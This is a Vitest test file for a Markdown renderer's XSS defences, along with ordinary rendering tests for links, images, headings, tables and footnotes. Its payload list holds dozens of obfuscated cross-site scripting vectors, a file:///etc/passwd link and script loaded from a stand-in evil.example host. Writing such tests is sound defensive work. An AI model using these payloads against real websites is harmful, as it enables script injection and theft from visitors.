import { describe, expect, it } from 'vitest';
import { markdownToText, renderMarkdown } from '../../../src/lib/server/content/markdown';

/** Every real tag in the output. Text `<` is always escaped, so a literal `<` opens a tag. */
function tagsOf(html: string): { name: string; attrs: [string, string][]; raw: string }[] {
	return [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map((m) => ({
		name: (m[1] ?? '').toLowerCase(),
		raw: m[0],
		attrs: [...(m[2] ?? '').matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map(
			(a) => [(a[1] ?? '').toLowerCase(), decodeEntities(a[2] ?? '')] as [string, string]
		)
	}));
}

function decodeEntities(value: string): string {
	return value
		.replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
		.replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
		.replace(/&(colon|tab|newline|quot|apos|lt|gt|amp);/gi, (_, name: string) =>
			({ colon: ':', tab: '\t', newline: '\n', quot: '"', apos: "'", lt: '<', gt: '>', amp: '&' })[
				name.toLowerCase() as 'colon'
			]
		);
}

const ALLOWED_TAGS = new Set([
	'p', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'em', 'strong',
	'del', 's', 'a', 'img', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'br', 'sup', 'section'
]);
const ALLOWED_ATTRS = new Set(['href', 'src', 'alt', 'title', 'id', 'class', 'rel', 'loading', 'start', 'width', 'height']);

/**
 * `schemeOnly` checks what a browser would run; without it, the scheme names may not appear
 * anywhere in a URL (a fragment such as `#x;javascript:` is harmless, but still refused).
 */
function expectSafe(html: string, schemeOnly = false): void {
	expect(html).not.toMatch(/<(script|iframe|object|embed|form|input|svg|math|style|link|meta|base|details|body|div)\b/i);
	const tags = tagsOf(html);
	// Attribute values are quoted and escaped; `title="x onerror=y"` is text, not a handler.
	const markup = tags.map((t) => t.raw.replace(/="[^"]*"/g, '=""')).join('');
	expect(markup).not.toMatch(/\son\w+=/i);
	expect(markup).not.toMatch(/style=/i);
	for (const tag of tags) {
		expect(ALLOWED_TAGS.has(tag.name), `tag <${tag.name}>`).toBe(true);
		for (const [name, value] of tag.attrs) {
			expect(ALLOWED_ATTRS.has(name), `attribute ${name} on <${tag.name}>`).toBe(true);
			if (name === 'href' || name === 'src') {
				// What a browser would see once it drops tabs, newlines and leading controls.
				const seen = value.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '').toLowerCase();
				expect(seen, `${name}="${value}"`).not.toMatch(/^(javascript|vbscript|data|file):/);
				expect(seen, `${name}="${value}"`).not.toMatch(/^[\\/]{2}/);
				if (!schemeOnly) expect(seen).not.toMatch(/javascript:|vbscript:|data:/);
			}
		}
	}
}

// From the OWASP XSS filter evasion cheat sheet and the usual Markdown vectors.
const PAYLOADS: string[] = [
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x](&#106;avascript:alert(1))',
	'[x](&#x6A;avascript:alert(1))',
	'[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))',
	'[x](javascript&colon;alert(1))',
	'[x](javascript&#58;alert(1))',
	'[x](jAvAsCrIpT&colon;alert&lpar;1&rpar;)',
	'[x]( javascript:alert(1))',
	'[x](  javascript:alert(1)  )',
	'[x](\njavascript:alert(1))',
	'[x](<javascript:alert(1)>)',
	'[x](jav&#x09;ascript:alert(1))',
	'[x](jav&#x0A;ascript:alert(1))',
	'[x](jav\tascript:alert(1))',
	'[x](&#x1;javascript:alert(1))',
	'[x](&#x20;javascript:alert(1))',
	'[x](java&#0;script:alert(1))',
	'[x](%6Aavascript:alert(1))',
	'[x](javascript:%61lert(1))',
	'[x](javascript://%0Aalert(1))',
	'[x](\\u006Aavascript:alert(1))',
	'[x](ｊａｖａｓｃｒｉｐｔ:alert(1))',
	'[x](vbscript:msgbox(1))',
	'[a](VBScript:msgbox(1))',
	'[x](file:///etc/passwd)',
	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[x](DATA:text/html,<script>alert(1)</script>)',
	'![x](javascript:alert(1))',
	'![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
	'![x](data:image/png;base64,iVBORw0KGgo=)',
	'![x](x.png "onerror=alert(1)")',
	'![x](https://example.org/x.png "\\" onerror=\\"alert(1)")',
	'![x" onerror="alert(1)](https://example.org/x.png)',
	'![x](https://example.org/x.png" onerror="alert(1))',
	'[x](https://example.org "onmouseover=alert(1)")',
	'[x](https://example.org" onmouseover="alert(1))',
	'<javascript:alert(1)>',
	'<JAVASCRIPT:alert(1)>',
	'<vbscript:msgbox(1)>',
	'<data:text/html,<script>alert(1)</script>>',
	'[x][r]\n\n[r]: javascript:alert(1)',
	'[x][r]\n\n[r]: <javascript:alert(1)> "t"',
	'[r]\n\n[r]: JaVaScRiPt:alert(1)',
	'![x][r]\n\n[r]: javascript:alert(1)',
	'[[x](javascript:alert(1))](https://example.org)',
	'[![x](javascript:alert(1))](javascript:alert(2))',
	'[x](//evil.example/x)',
	'[x](/\\evil.example)',
	'![x](//evil.example/x.png)',
	'https://example.org/"onmouseover="alert(1)',
	'www.example.org/<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
	'<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
	'<script>alert(1)</script>',
	'<<SCRIPT>alert("XSS");//<</SCRIPT>',
	'<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<svg onload=alert(1)>',
	'<svg/onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="jav&#x09;ascript:alert(1)">x</a>',
	'<a href="&#1;javascript:alert(1)">x</a>',
	'<details open ontoggle=alert(1)>',
	'<object data="javascript:alert(1)"></object>',
	'<embed src="javascript:alert(1)">',
	'<form action="javascript:alert(1)"><input type=submit></form>',
	'<style>@import "https://evil.example/x.css";</style>',
	'<link rel=stylesheet href="javascript:alert(1)">',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<base href="javascript:alert(1)//">',
	'<div style="background:url(javascript:alert(1))">x</div>',
	'<BODY ONLOAD=alert(1)>',
	'<!--<img src="--><img src=x onerror=alert(1)//">',
	'`<img src=x onerror=alert(1)>`',
	'```\n<script>alert(1)</script>\n```',
	'```js" onmouseover="alert(1)\nx\n```',
	'    <script>alert(1)</script>',
	'# <script>alert(1)</script>',
	'## x" onmouseover="alert(1)',
	'> <img src=x onerror=alert(1)>',
	'- [x](javascript:alert(1))\n- <svg onload=alert(1)>',
	'Text[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
	'Text^[inline <img src=x onerror=alert(1)>]',
	'| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |',
	'| a |\n|:-:|\n| b |',
	'*[x](javascript:alert(1))*',
	'[x](javascript:alert(1) "title")'
];

/** Like the real resolver: files in the course's assets/ folder only. */
const courseFiles = (path: string) =>
	/^(\.\.\/)?assets\/[\w.-]+$/.test(path) ? `/files/c1/${path.replace(/^\.\.\//, '')}` : undefined;

describe('authors cannot run script in a reader’s browser', () => {
	it('has a substantial list of payloads', () => {
		expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
	});

	it.each(PAYLOADS)('neutralises %j', (payload) => {
		expectSafe(renderMarkdown(payload).html);
		expectSafe(renderMarkdown(payload, { resolveAsset: courseFiles }).html);
		// Careless resolvers that hand back whatever they are given must not reopen the hole.
		expectSafe(renderMarkdown(payload, { resolveAsset: (path) => path }).html, true);
		expectSafe(renderMarkdown(payload, { resolveAsset: (path) => `/files/c1/${path}` }).html, true);
	});

	it('shows raw HTML as text instead of rendering it', () => {
		const { html } = renderMarkdown('Press <kbd>Ctrl</kbd> and <script>alert(1)</script>');
		expect(html).toBe('<p>Press &lt;kbd&gt;Ctrl&lt;/kbd&gt; and &lt;script&gt;alert(1)&lt;/script&gt;</p>\n');
	});

	it('keeps the text of a link whose target is refused', () => {
		const { html } = renderMarkdown('[click me](<javascript:alert(1)>) and [y](//evil.example)');
		expect(html).not.toContain('<a');
		expect(html).toContain('y');
	});

	it('refuses a resolved URL that is not http(s) or a path', () => {
		const { html } = renderMarkdown('![x](assets/x.png) [y](assets/y.pdf)', { resolveAsset: () => 'javascript:alert(1)' });
		expect(html).toBe('<p>x y</p>\n');
	});
});

describe('links', () => {
	it('mark external links and open them in the same tab', () => {
		const { html } = renderMarkdown('[FAO](https://www.fao.org/water "Water") and http://example.org');
		expect(html).toBe(
			'<p><a href="https://www.fao.org/water" title="Water" rel="noopener noreferrer nofollow">FAO</a> and ' +
				'<a href="http://example.org" rel="noopener noreferrer nofollow">http://example.org</a></p>\n'
		);
		expect(html).not.toContain('target');
	});

	it('leave mail and in-page links alone', () => {
		const { html } = renderMarkdown('[write](mailto:team@example.org), team@example.org, [above](#goals)');
		expect(html).toBe(
			'<p><a href="mailto:team@example.org">write</a>, <a href="mailto:team@example.org">team@example.org</a>, ' +
				'<a href="#goals">above</a></p>\n'
		);
	});

	it('resolve course files through resolveAsset, keeping the fragment', () => {
		const seen: string[] = [];
		const { html } = renderMarkdown('[checklist](../assets/checklist.pdf#page=2) and [guide](<assets/field guide.pdf>)', {
			resolveAsset: (path) => {
				seen.push(path);
				return `/files/c1/${encodeURI(path.replace(/^(\.\.\/)?/, ''))}`;
			}
		});
		expect(seen).toEqual(['../assets/checklist.pdf', 'assets/field guide.pdf']);
		expect(html).toBe(
			'<p><a href="/files/c1/assets/checklist.pdf#page=2">checklist</a> and ' +
				'<a href="/files/c1/assets/field%20guide.pdf">guide</a></p>\n'
		);
	});

	it('keep only the text when a relative link cannot be resolved', () => {
		expect(renderMarkdown('See [the notes](notes.md).', { resolveAsset: () => undefined }).html).toBe(
			'<p>See the notes.</p>\n'
		);
		expect(renderMarkdown('See [the notes](notes.md).').html).toBe('<p>See the notes.</p>\n');
	});
});

describe('images', () => {
	const resolveAsset = (path: string) =>
		path === '../assets/drip-line.jpg' || path === 'assets/drip-line.jpg' ? '/files/c1/assets/drip-line.jpg' : undefined;

	it('resolve through resolveAsset and load lazily', () => {
		const { html } = renderMarkdown('![A drip line beside young cotton](../assets/drip-line.jpg)', { resolveAsset });
		expect(html).toBe('<p><img src="/files/c1/assets/drip-line.jpg" alt="A drip line beside young cotton" loading="lazy" /></p>\n');
		expect(renderMarkdown('![A](assets/drip-line.jpg)', { resolveAsset }).html).toContain('src="/files/c1/assets/drip-line.jpg"');
	});

	it('may come from the web', () => {
		const { html } = renderMarkdown('![Map](https://example.org/map.png "Basin")');
		expect(html).toBe('<p><img src="https://example.org/map.png" alt="Map" title="Basin" loading="lazy" /></p>\n');
	});

	it('give way to their alt text when the file is unknown', () => {
		const { html } = renderMarkdown('Before ![A *missing* photo](../assets/nope.jpg) after', { resolveAsset });
		expect(html).toBe('<p>Before A missing photo after</p>\n');
	});
});

describe('headings', () => {
	it('get stable ids, in any script, unique within the page', () => {
		const { html, headings } = renderMarkdown(
			'## Водные ресурсы\n\n### Why *drip* works?\n\n## Водные ресурсы\n\n## Водные ресурсы\n\n#### `code` 100%\n\n##### Small print'
		);
		expect(html).toContain('<h2 id="водные-ресурсы">Водные ресурсы</h2>');
		expect(html).toContain('<h3 id="why-drip-works">Why <em>drip</em> works?</h3>');
		expect(html).toContain('<h2 id="водные-ресурсы-2">');
		expect(html).toContain('<h2 id="водные-ресурсы-3">');
		expect(html).toContain('<h4 id="code-100"><code>code</code> 100%</h4>');
		expect(html).toContain('<h5>Small print</h5>');
		expect(headings).toEqual([
			{ id: 'водные-ресурсы', text: 'Водные ресурсы', level: 2 },
			{ id: 'why-drip-works', text: 'Why drip works?', level: 3 },
			{ id: 'водные-ресурсы-2', text: 'Водные ресурсы', level: 2 },
			{ id: 'водные-ресурсы-3', text: 'Водные ресурсы', level: 2 },
			{ id: 'code-100', text: 'code 100%', level: 4 }
		]);
	});

	it('keep Kazakh letters and never come out empty', () => {
		const { headings } = renderMarkdown('## Су ресурстары: Қазақстан\n\n## ???');
		expect(headings.map((h) => h.id)).toEqual(['су-ресурстары-қазақстан', 'section']);
	});

	it('are demoted when the body uses h1, since the page has its own', () => {
		const { html, headings } = renderMarkdown('# Overview\n\n## Detail\n\nSetext\n======');
		expect(html).not.toContain('<h1');
		expect(html).toContain('<h2 id="overview">Overview</h2>');
		expect(html).toContain('<h3 id="detail">Detail</h3>');
		expect(headings.map((h) => [h.text, h.level])).toEqual([
			['Overview', 2],
			['Detail', 3],
			['Setext', 2]
		]);
		expect(renderMarkdown('## Detail').html).toBe('<h2 id="detail">Detail</h2>\n');
	});
});

describe('tables', () => {
	it('render with alignment as classes, not inline styles', () => {
		const { html } = renderMarkdown('| Method | Efficiency | Note |\n|:--|:-:|--:|\n| Drip | 80–95 % | *best* |');
		expect(html).toBe(
			'<table>\n<thead>\n<tr>\n<th class="align-left">Method</th>\n<th class="align-center">Efficiency</th>\n' +
				'<th class="align-right">Note</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td class="align-left">Drip</td>\n' +
				'<td class="align-center">80–95 %</td>\n<td class="align-right"><em>best</em></td>\n</tr>\n</tbody>\n</table>\n'
		);
	});
});

describe('footnotes', () => {
	it('render with anchors that lead there and back', () => {
		const { html } = renderMarkdown(
			'Drip saves water.[^fao] So does mulch.[^fao]\n\n## fn:1\n\n[^fao]: FAO, *Irrigation Water Management*, 1988.'
		);
		const ids = [...html.matchAll(/\sid="([^"]+)"/g)].map((m) => m[1]);
		const targets = [...html.matchAll(/href="#([^"]+)"/g)].map((m) => m[1]);
		expect(new Set(ids).size).toBe(ids.length);
		expect(targets.length).toBe(4);
		for (const target of targets) expect(ids).toContain(target);
		expect(html).toContain('<sup class="footnote-ref"><a href="#fn:1" id="fnref:1">[1]</a></sup>');
		expect(html).toContain('<section class="footnotes">');
		expect(html).toContain('<li id="fn:1" class="footnote-item"><p>FAO, <em>Irrigation Water Management</em>, 1988.');
		expect(html).toContain('<a href="#fnref:1" class="footnote-backref">');
	});
});

describe('code', () => {
	it('is escaped, with the language kept as a class', () => {
		const { html } = renderMarkdown('```html\n<p class="x">Hi & bye</p>\n```\n\nInline `<b>` too.');
		expect(html).toBe(
			'<pre><code class="language-html">&lt;p class="x"&gt;Hi &amp; bye&lt;/p&gt;\n</code></pre>\n' +
				'<p>Inline <code>&lt;b&gt;</code> too.</p>\n'
		);
	});
});

describe('a whole lesson', () => {
	const lesson = [
		'Drip irrigation delivers water to the roots through ...',
		'',
		'![A drip line beside young cotton plants](../assets/drip-line.jpg)',
		'',
		'| Method  | Typical efficiency |',
		'|---------|-------------------|',
		'| Furrow  | 40–60 %           |',
		'| Drip    | 80–95 %           |',
		'',
		'Sources are named in the text or as footnotes.[^fao]',
		'',
		'[^fao]: FAO, *Irrigation Water Management: Irrigation Methods*, Training manual 5, 1988.'
	].join('\n');

	it('renders the example from docs/course-format.md safely', () => {
		const { html } = renderMarkdown(lesson, { resolveAsset: (p) => `/files/c1/${p.replace('../', '')}` });
		expectSafe(html);
		expect(html).toContain('<img src="/files/c1/assets/drip-line.jpg"');
		expect(html).toContain('<td>80–95 %</td>');
		expect(html).toContain('class="footnote-item"');
	});

});

describe('markdownToText', () => {
	it('keeps what a reader reads and drops the markup', () => {
		const text = markdownToText(
			'# Title\n\nSome **bold**, _em_, `code` and [a link](https://example.org) &amp; an entity.\n\n' +
				'![Alt of image](x.png)\n\n- one\n- two\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n> Quote\n\n```\nconst x = 1;\n```\n\nNote.[^n]\n\n[^n]: The note.'
		);
		expect(text).toBe(
			'Title\nSome bold, em, code and a link & an entity.\nAlt of image\none\ntwo\nA B\n1 2\nQuote\nconst x = 1;\nNote.\nThe note.'
		);
	});

	it('returns plain text, leaving raw HTML as the words the reader sees', () => {
		expect(markdownToText('<b>Hi</b>\n\nthere')).toBe('<b>Hi</b>\nthere');
		expect(markdownToText('')).toBe('');
	});
});
